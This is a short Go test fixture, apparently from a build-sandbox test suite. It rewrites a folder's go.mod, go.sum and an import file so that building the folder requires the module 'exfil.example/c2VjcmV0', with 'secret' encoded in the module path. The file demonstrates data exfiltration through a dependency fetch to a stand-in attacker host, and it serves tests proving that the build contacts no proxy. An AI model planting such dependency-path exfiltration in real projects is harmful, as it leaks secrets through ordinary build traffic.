// Command evilgomod is a hostile tool for the tests of building tool
// folders. It has no network; it rewrites its own folder (DIR, default
// /work/evil) so that the next build of that folder needs a module whose
// path carries data ("c2VjcmV0" is "secret" in base64): a build that may
// ask a module proxy would carry the data out. The tests prove the build
// asks nobody.
package main

import (
	"fmt"
	"os"
	"path/filepath"
)

func main() {
	dir := "/work/evil"
	if len(os.Args) > 1 {
		dir = os.Args[1]
	}
	files := map[string]string{
		"go.mod": "module example.com/evil\n\ngo 1.22\n\nrequire exfil.example/c2VjcmV0 v1.0.0\n",
		"go.sum": "exfil.example/c2VjcmV0 v1.0.0 h1:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=\n" +
			"exfil.example/c2VjcmV0 v1.0.0/go.mod h1:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=\n",
		"dep.go": "package main\n\nimport _ \"exfil.example/c2VjcmV0\"\n",
	}
	for name, body := range files {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(body), 0o644); err != nil {
			fmt.Println("error:", err)
			os.Exit(1)
		}
	}
	fmt.Println("rewrote", dir)
}
